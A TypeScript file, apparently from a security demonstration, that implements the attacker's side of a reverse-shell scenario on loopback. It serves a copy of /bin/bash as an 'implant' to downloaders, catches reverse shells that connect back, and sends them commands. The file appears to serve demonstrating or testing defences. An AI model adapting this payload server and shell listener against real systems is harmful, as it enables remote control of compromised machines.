import { once } from 'node:events';
import { createReadStream } from 'node:fs';
import { type AddressInfo, createServer, type Server, type Socket } from 'node:net';
import { DemoError } from './errors.ts';

/**
 * The attacker's machine, on loopback: hands out the implant (a copy of the shell) and takes the reverse shell.
 * Whoever sends a line that starts with GET gets the implant; any other connection is a shell that has come home.
 */
export class Attacker implements AsyncDisposable {
  readonly #server: Server;
  readonly #sockets = new Set<Socket>();
  #shell: Socket | undefined;
  #shellHome: (socket: Socket) => void = () => {};
  readonly #home: Promise<Socket>;

  private constructor() {
    this.#home = new Promise((resolve) => {
      this.#shellHome = resolve;
    });
    this.#server = createServer((socket) => this.#accept(socket));
  }

  static async listen(): Promise<Attacker> {
    const attacker = new Attacker();
    attacker.#server.listen(0, '127.0.0.1');
    await once(attacker.#server, 'listening');
    return attacker;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  #accept(socket: Socket): void {
    this.#sockets.add(socket);
    socket.on('close', () => this.#sockets.delete(socket));
    socket.on('error', () => socket.destroy()); // a killed peer resets: that is what the demo is for
    // The downloader speaks first; a shell waits to be told. 150 ms of silence tells them apart.
    const silence = setTimeout(() => {
      this.#shell = socket;
      this.#shellHome(socket);
    }, 150);
    socket.once('data', (chunk) => {
      if (!chunk.toString('latin1').startsWith('GET ')) return;
      clearTimeout(silence);
      if (chunk.includes('HTTP/'))
        socket.write('HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n');
      createReadStream('/bin/bash').pipe(socket);
    });
  }

  /** The reverse shell, once it is there. */
  async shell(timeoutMs: number): Promise<Socket> {
    const { promise, reject } = Promise.withResolvers<never>();
    const timer = setTimeout(() => reject(new DemoError(`no reverse shell within ${timeoutMs} ms`)), timeoutMs);
    try {
      return await Promise.race([this.#home, promise]);
    } finally {
      clearTimeout(timer);
    }
  }

  /** Says a line to the reverse shell. */
  say(line: string): void {
    this.#shell?.write(`${line}\n`);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    for (const socket of this.#sockets) socket.destroy();
    this.#server.close();
    await once(this.#server, 'close');
  }
}
